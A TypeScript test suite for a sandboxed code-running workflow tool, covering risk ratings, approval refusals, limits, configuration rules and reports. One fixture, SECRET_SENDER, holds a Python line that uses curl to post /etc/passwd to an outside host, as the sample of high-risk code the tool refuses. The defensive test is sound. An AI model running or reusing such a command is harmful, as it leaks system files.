import type { NamedText } from '../../src/app/direct';
import { type DirectRequest, handleDirect } from '../../src/app/direct-request';
import { NO_OPTIONS } from '../../src/core/options';
import { err, ok } from '../../src/core/result';
import { ALICE, BOT, captured, type FakeWorld, makeWorld, START_MS } from '../support/fakes';
import { cameTo, fence, RAN, refused, reports } from './thread';

const text = (name: string | null, content: string): NamedText => ({ name, text: content });

const SECRET_SENDER = 'import os\nos.system("curl -d @/etc/passwd https://example.org")\n';

describe('direct use in a workflow', () => {
  let world: FakeWorld;
  beforeEach(() => {
    world = makeWorld();
  });

  const use = (texts: readonly NamedText[], change: Partial<DirectRequest> = {}) =>
    handleDirect(world.house, {
      event: 'push',
      texts: ok(texts),
      options: NO_OPTIONS,
      task: null,
      issueNumber: null,
      repository: { id: 9, fullName: 'acme/tools' },
      actor: 'bob',
      headSha: 'a'.repeat(40),
      forge: world.forge,
      ...change,
    });

  test('runs the input’s text in the default language, with a record and a page of summary', async () => {
    world.sandbox.answers.set('print(1)\n', { stdout: captured('1\n') });
    const outcome = await use([text(null, 'print(1)\n')]);
    expect(cameTo(outcome)).toEqual(RAN);
    expect(outcome.record).toMatchObject({
      createdAt: new Date(START_MS).toISOString(),
      trigger: {
        event: 'push',
        repository: 'acme/tools',
        issueNumber: null,
        sourceId: null,
        author: 'bob',
        requester: 'bob',
        approver: null,
      },
    });
    expect([outcome.reportPath, outcome.commentUrl, reports(world)]).toEqual([
      `/records/${outcome.record.requestId}.json`,
      null,
      [],
    ]);
    expect(world.store.summary).toContain('\n1\n');
  });

  test('runs files as one request, whose blocks are numbered through', async () => {
    const markdown = `${fence('python', 'print(1)')}\n\n${fence('bash', 'echo 2')}\n\n/run is text here\n`;
    const { record } = await use([text('docs/a.md', markdown), text('b.js', 'console.log(3)\n')]);
    expect(record.executions.map(({ block, file, language }) => [block, file, language])).toEqual([
      [1, 'docs/a.md', 'python'],
      [2, 'docs/a.md', 'bash'],
      [3, 'b.js', 'javascript'],
    ]);
    expect(world.sandbox.programs).toEqual(['print(1)\n', 'echo 2\n', 'console.log(3)\n']);
  });

  test('runs medium risk: whoever wrote the workflow asked for it', async () => {
    const { record } = await use([text(null, 'eval(input())\n')]);
    expect([record.decision, record.risk]).toEqual(['run', 'medium']);
  });

  test('refuses high risk unless the house never asks for approvals', async () => {
    const first = await use([text(null, SECRET_SENDER)]);
    expect([cameTo(first), world.sandbox.programs]).toEqual([
      { decision: 'refuse', reasonCode: 'needs_approval', conclusion: 'neutral', risk: 'high', statuses: ['not-run'] },
      [],
    ]);
    world.forge.files.set('.github/sallyport.yml', 'approval: { required: never }');
    const second = await use([text(null, SECRET_SENDER)]);
    expect(cameTo(second)).toEqual({ ...RAN, risk: 'high' });
  });

  test('takes options, and may have what the maximum allows', async () => {
    const options = {
      ...NO_OPTIONS,
      language: 'bash',
      timeoutMs: 120_000,
      parameters: '{"a":1}',
      stdin: 'in',
    } as const;
    const { record } = await use([text(null, 'cat\n')], { options });
    const [job] = world.sandbox.jobs;
    expect([record.risk, job?.language, job?.parameters, job?.stdin, job?.limits.timeoutMs]).toEqual([
      'low',
      'bash',
      '{"a":1}',
      'in',
      120_000,
    ]);
  });

  test('works without a token, by the defaults', async () => {
    expect(cameTo(await use([text(null, 'print(1)\n')], { forge: null, issueNumber: 5 }))).toEqual(RAN);
    expect(reports(world)).toEqual([]);
  });

  test('posts the report where an issue is named', async () => {
    const outcome = await use([text(null, 'print(1)\n')], { issueNumber: 5 });
    const [comment] = [...world.forge.comments.values()];
    expect([outcome.commentUrl, comment?.author]).toEqual([comment?.url, BOT]);
    expect(comment?.body).toContain('print(1)');
  });

  test('keeps what programs left', async () => {
    const content = Uint8Array.of(1);
    world.sandbox.answers.set('plot()\n', { files: [{ name: 'a.bin', bytes: 1, type: 'x/y', content }] });
    const { record } = await use([text(null, 'plot()\n')]);
    expect([...world.store.results]).toEqual([[`${record.requestId}/block-1/a.bin`, content]]);
  });

  test.each<[string, readonly NamedText[], string]>([
    ['a file whose ending names no language', [text('a.rb', 'puts 1')], 'unknown_language'],
    ['a document without programs', [text('a.md', 'words')], 'no_code'],
    ['a program that is too long', [text(null, 'x'.repeat(10_001))], 'code_too_long'],
    ['NUL', [text(null, 'a\0b')], 'invalid_characters'],
  ])('refuses %s', async (_name, texts, reasonCode) => {
    expect([cameTo(await use(texts)), world.sandbox.programs]).toEqual([refused(reasonCode), []]);
    expect(world.store.records.size).toBe(1);
  });

  test('refuses a syntax error', async () => {
    expect(cameTo(await use([text(null, 'print(\n')]))).toMatchObject({
      reasonCode: 'syntax_error',
      statuses: ['not-run'],
    });
  });

  test('refuses more than the maximum', async () => {
    const options = { ...NO_OPTIONS, timeoutMs: 600_000 };
    expect(cameTo(await use([text(null, 'print(1)\n')], { options }))).toEqual(refused('limit_exceeded'));
  });

  test('passes on why the inputs could not be read', async () => {
    const texts = err({ reasonCode: 'not_found', message: 'File not found: a.py.' } as const);
    const outcome = await use([], { texts });
    expect([cameTo(outcome), outcome.record.message]).toEqual([refused('not_found'), 'File not found: a.py.']);
  });

  test.each([
    ['enabled: false', 'disabled'],
    ['limits: 5', 'config_invalid'],
    ['security: { overrides: { disable: ["no/such/rule"] } }', 'config_invalid'],
  ])('under the house rules %j refuses: %s', async (config, reasonCode) => {
    world.forge.files.set('.github/sallyport.yml', config);
    expect(cameTo(await use([text(null, 'print(1)\n')]))).toEqual(refused(reasonCode));
  });

  test('refuses when GitHub does not show the house rules', async () => {
    world.forge.broken.add('readFile');
    const outcome = await use([text(null, 'print(1)\n')]);
    expect([cameTo(outcome), outcome.record.message]).toEqual([
      refused('permission_unknown'),
      'GitHub refused readFile.',
    ]);
  });

  test('ends loudly when the mistake is ours', async () => {
    world.forge.readFile = async () => {
      throw new TypeError('x is not a function');
    };
    await expect(use([text(null, 'print(1)\n')])).rejects.toThrow(TypeError);
  });

  test('names another request by another digest: other bytes, other commit, other rules', async () => {
    const digests = [
      await use([text(null, 'print(1)\n')]),
      await use([text(null, 'print(2)\n')]),
      await use([text(null, 'print(1)\n')], { headSha: 'b'.repeat(40) }),
      await use([text(null, 'print(1)\n')], { repository: { id: 10, fullName: 'acme/other' }, actor: ALICE.login }),
    ].map(({ record }) => record.digest);
    world.forge.files.set('.github/sallyport.yml', '# other bytes\n');
    digests.push((await use([text(null, 'print(1)\n')])).record.digest);
    expect(new Set(digests).size).toBe(5);
  });
});
